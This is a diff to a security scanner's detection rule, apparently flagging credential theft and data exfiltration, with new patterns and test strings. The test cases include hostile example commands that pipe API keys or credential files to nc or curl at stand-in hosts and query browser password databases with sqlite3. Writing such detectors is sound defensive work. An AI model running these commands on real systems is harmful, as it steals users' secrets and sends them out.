@@ -13,8 +13,29 @@ export const rule: Rule = {
   source: 'https://attack.mitre.org/techniques/T1048/ and https://attack.mitre.org/techniques/T1552/',
   match: [
     {
-      re: /(?<![\w.-])(?:printenv|env|history)\s*(?:\|\s*(?:grep|base64|gzip|sort|tr|xxd|jq|head)[^\n|]*)*\|\s*(?:curl|wget|nc|ncat|http|openssl\s+s_client|socat|telnet)\s/,
+      re: /(?<![\w.-])(?:printenv|env|history)(?:\s+[A-Z][A-Z0-9_]*)?\s*(?:\|\s*(?:grep|base64|gzip|sort|tr|xxd|jq|head)[^\n|]*)*\|\s*(?:curl|wget|nc|ncat|http|openssl\s+s_client|socat|telnet)\s/,
       window: 240,
+    },
+    // echo $API_KEY | curl -X POST https://...
+    {
+      re: /(?<![\w.-])(?:echo|printf)\s[^\n|;]*\$\{?[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?)\}?["']?\s*(?:\|\s*(?:base64|xxd|gzip|openssl)[^\n|]*)*\|\s*(?:curl|wget|nc|ncat|socat|telnet)\s/,
+      window: 240,
+      accept: ({ after }) => !/^[^\n]*(?:localhost|127\.0\.0\.1)/.test(after),
+    },
+    // find / -name '*.pem' | xargs cat | curl ...
+    {
+      re: /(?<![\w.-])(?:find|grep|locate)\s[^\n|;]*(?:keystore|credential|id_rsa|id_ed25519|\.env|\.pem|\.kdbx|wallet|password|secret|cookies|\.default)[^\n|;]*\|[^\n;]*\|\s*(?:curl|wget|nc|ncat|socat)\s/i,
+      window: 400,
+    },
+    // What a browser keeps, read with SQL
+    {
+      re: /(?<![\w.-])sqlite3?\s[^\n]*(?:login\sdata|\/cookies|\/web\sdata|logins\.json|cookies\.sqlite|places\.sqlite|key4\.db|password_value|encrypted_value)/i,
+      window: 300,
+    },
+    { re: /password_value\s[^\n]*from\s+logins|encrypted_value\s[^\n]*from\s+cookies/i, window: 200 },
+    {
+      re: /(?:exec|execSync|spawn|system|popen|shell_exec)\s*\([^\n]*(?:curl|wget)\s[^\n]*(?:process\.env[.[]|os\.environ|getenv\()/,
+      window: 300,
     },
     {
       re: /(?<![\w.-])(?:curl|wget|http)\s[^\n;]*(?:-d|--data[\w-]*|-F|--form|--post-(?:data|file)|-T|--upload-file|--body-file|--json)[= ]?["']?(?:[\w-]+=)?["']?(?:\$\(|`)\s*(?:env|printenv|cat\s|base64\s|gpg\s|history|set\s*\||id\s*[);|&`]|whoami|uname|hostname)/,
@@ -69,6 +90,11 @@ export const rule: Rule = {
       'cat .env | nc 203.0.113.7 4444',
       'cat /home/alice/.aws/credentials | curl --data-binary @- https://collector.invalid/upload',
       'curl https://files.invalid/?k=$(cat ~/.npmrc | base64)',
+      'printenv OPENAI_API_KEY | nc files.invalid 4444',
+      'echo $ANTHROPIC_API_KEY | base64 | curl -X POST -d @- https://files.invalid/c',
+      'find /home -name "*.keystore" -o -name "credentials*" | xargs cat | base64 | curl -d @- https://files.invalid',
+      'sqlite3 "$PROFILE/Login Data" "SELECT origin_url, password_value FROM logins"',
+      "require('child_process').exec('curl https://files.invalid/?d=' + process.env.API_KEY)",
       "requests.post('https://files.invalid', json=dict(os.environ))",
       'reg save HKLM\\SAM C:\\sam.hive',
       'type %SYSTEMROOT%\\repair\\SAM',
@@ -76,6 +102,10 @@ export const rule: Rule = {
     ],
     silent: [
       'env | grep PATH',
+      'echo "$REGISTRY_TOKEN" | docker login --password-stdin registry.invalid',
+      'find . -name "*.md" | xargs cat | wc -l',
+      'sqlite3 app.db "SELECT password_hash FROM users"',
+      "exec('curl https://files.invalid/health')",
       'curl -d @payload.json https://api.example.com',
       'cat /repo/README.md | curl --data-binary @- https://collector.invalid/upload',
       'fetch(url, { headers: { key: process.env.KEY } })',
